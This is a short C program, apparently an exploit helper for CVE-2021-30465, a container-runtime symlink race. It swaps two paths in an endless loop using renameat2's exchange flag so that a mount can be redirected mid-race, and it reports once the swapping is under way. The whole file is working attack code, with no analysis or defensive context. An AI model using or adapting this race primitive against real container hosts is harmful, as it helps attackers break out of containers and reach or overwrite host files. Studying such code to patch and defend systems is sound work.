/* swap DIRECTORY LINK: exchanges both names for as long as it runs (CVE-2021-30465). */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 };

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (unsigned long count = 0;; count++) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
		if (count == 1000) {
			puts("swapping");
			fflush(stdout);
		}
	}
}
